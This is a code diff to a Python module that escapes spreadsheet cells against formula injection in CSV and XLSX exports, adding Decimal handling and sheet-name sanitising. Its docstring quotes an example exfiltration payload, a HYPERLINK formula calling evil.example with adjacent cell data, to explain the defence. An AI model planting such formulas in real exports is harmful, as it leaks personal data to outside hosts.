@@ -4,11 +4,13 @@ Excel, LibreOffice and Google Sheets read a cell that begins with `=`, `+`, `-` 
 strip it, a tab or carriage return) as a formula: a name such as `=HYPERLINK("http://evil.example/?"&A1)`
 would send the neighbouring cells away when the data protection officer opens the export. The OWASP rule
 is to prefix such a cell with a single quote, which the program takes as "text follows" and does not show.
-Every export writes its cells through `spreadsheet_safe` (or `SpreadsheetCsvWriter`).
+Every export writes its cells through `spreadsheet_safe` (or `SpreadsheetCsvWriter`, `spreadsheet_xlsx`).
 """
 
 import csv
+import io
 from collections.abc import Iterable
+from decimal import Decimal
 from typing import Any
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
@@ -45,20 +47,20 @@ def spreadsheet_csv_writer(file, **fmtparams) -> SpreadsheetCsvWriter:
 
 
 def spreadsheet_xlsx(
-    rows: Iterable[Iterable[Any]], *, sheet_title: str = "", text_columns: Iterable[int] = ()
+    rows: Iterable[Iterable[Any]], *, sheet_title: str = "Export", text_columns: Iterable[int] = ()
 ) -> bytes:
-    """An XLSX workbook of one sheet with `rows`, every cell through `spreadsheet_safe`. Columns named in
-    `text_columns` (0-based) are formatted as text, so that a key typed in later keeps its leading zero."""
-    import io
-
+    """An XLSX workbook of one sheet holding the rows: numbers stay numbers (a Decimal becomes a float, as
+    XLSX stores it), every text cell passes `spreadsheet_safe`. Columns named in `text_columns` (0-based) are
+    formatted as text, so that a key typed in later keeps its leading zero."""
+    # openpyxl takes a tenth of a second to import; only the XLSX downloads pay for it.
     from openpyxl import Workbook
 
     workbook = Workbook()
     sheet = workbook.active
-    if sheet_title:
-        sheet.title = sheet_title[:31]
+    # Excel refuses sheet names over 31 characters or holding []:*?/\ .
+    sheet.title = "".join(c for c in sheet_title if c not in "[]:*?/\\")[:31] or "Export"
     for row in rows:
-        sheet.append([spreadsheet_safe(value) for value in row])
+        sheet.append([float(value) if isinstance(value, Decimal) else spreadsheet_safe(value) for value in row])
     for index in text_columns:
         letter = sheet.cell(row=1, column=index + 1).column_letter
         for cell in sheet[letter]:
@@ -72,7 +74,6 @@ def spreadsheet_read_rows(data: bytes) -> list[tuple[int, list[Any]]]:
     """The rows of the first sheet of an XLSX upload as `(row number, values)`, empty rows left out; values
     as openpyxl reads them (text, int, float, datetime, None). Raises ValueError for a file that is no
     workbook."""
-    import io
     import zipfile
 
     from openpyxl import load_workbook
